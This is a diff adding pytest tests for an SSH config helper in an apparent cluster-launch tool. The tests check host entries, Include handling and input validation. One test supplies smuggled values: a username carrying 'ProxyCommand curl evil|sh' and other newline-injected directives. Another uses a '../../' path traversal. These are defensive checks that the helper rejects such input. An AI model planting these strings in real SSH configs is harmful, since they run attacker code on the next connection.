@@ -1,0 +1,80 @@
+"""SSH config integration tests (parity: SSHConfigHelper,
+sky/backends/backend_utils.py:399)."""
+import os
+
+import pytest
+
+from skypilot_tpu.utils import ssh_config
+
+
+@pytest.fixture(autouse=True)
+def _ssh_dir(tmp_path, monkeypatch):
+    monkeypatch.setenv('SKYTPU_SSH_DIR', str(tmp_path / '.ssh'))
+    yield str(tmp_path / '.ssh')
+
+
+def test_add_and_remove_cluster(_ssh_dir):
+    path = ssh_config.add_cluster('myc', ['1.2.3.4', '5.6.7.8', '9.9.9.9'],
+                                  'tpuuser', '~/.ssh/skytpu-key')
+    assert path and os.path.exists(path)
+    content = open(path, encoding='utf-8').read()
+    assert 'Host myc\n' in content
+    assert 'HostName 1.2.3.4' in content
+    assert 'Host myc-worker1\n' in content and 'HostName 5.6.7.8' in content
+    assert 'Host myc-worker2\n' in content and 'HostName 9.9.9.9' in content
+    assert 'User tpuuser' in content
+    # Main config got the include, prepended (first-match-wins semantics).
+    main = open(os.path.join(_ssh_dir, 'config'), encoding='utf-8').read()
+    assert main.splitlines()[1] == 'Include skytpu/*.conf'
+    ssh_config.remove_cluster('myc')
+    assert not os.path.exists(path)
+    ssh_config.remove_cluster('myc')  # idempotent
+
+
+def test_include_prepended_before_existing_config(_ssh_dir):
+    os.makedirs(_ssh_dir)
+    cfg = os.path.join(_ssh_dir, 'config')
+    with open(cfg, 'w', encoding='utf-8') as f:
+        f.write('Host *\n  ServerAliveInterval 30\n')
+    ssh_config.add_cluster('c2', ['10.0.0.1'], 'u', '/k')
+    main = open(cfg, encoding='utf-8').read()
+    assert main.index('Include skytpu') < main.index('Host *')
+    assert 'ServerAliveInterval 30' in main  # user content preserved
+    # Re-adding does not duplicate the include.
+    ssh_config.add_cluster('c3', ['10.0.0.2'], 'u', '/k')
+    main = open(cfg, encoding='utf-8').read()  # re-read AFTER second add
+    assert main.count('Include skytpu') == 1
+
+
+def test_no_endpoint_clusters_skipped(_ssh_dir):
+    assert ssh_config.add_cluster('local-c', ['127.0.0.1'], '', '/k') is None
+    assert ssh_config.add_cluster('x', [], 'u', '/k') is None
+    assert ssh_config.add_cluster('bad name!', ['1.1.1.1'], 'u', '/k') is None
+    assert not os.path.exists(os.path.join(_ssh_dir, 'config'))
+
+
+def test_directive_injection_rejected(_ssh_dir):
+    """A crafted ssh_user/key must never reach the config file (newline =
+    new directive = ProxyCommand execution on next ssh)."""
+    evil_user = 'u\n  ProxyCommand curl evil|sh'
+    assert ssh_config.add_cluster('c4', ['1.1.1.1'], evil_user, '/k') is None
+    assert ssh_config.add_cluster('c4', ['1.1.1.1'], 'u',
+                                  '/k\nProxyCommand x') is None
+    assert ssh_config.add_cluster('c4', ['1.1.1.1\nHost *'], 'u',
+                                  '/k') is None
+    assert not os.path.exists(
+        os.path.join(_ssh_dir, 'skytpu', 'c4.conf'))
+
+
+def test_remove_rejects_traversal(_ssh_dir, tmp_path):
+    victim = tmp_path / 'victim.conf'
+    victim.write_text('keep me')
+    ssh_config.remove_cluster(f'../../{victim.stem}')
+    assert victim.exists()
+
+
+def test_unwritable_ssh_dir_is_best_effort(_ssh_dir, monkeypatch):
+    """A read-only ~/.ssh must not raise (launch would fail after the
+    cluster is already UP)."""
+    monkeypatch.setenv('SKYTPU_SSH_DIR', '/proc/definitely-unwritable')
+    assert ssh_config.add_cluster('c5', ['1.1.1.1'], 'u', '/k') is None
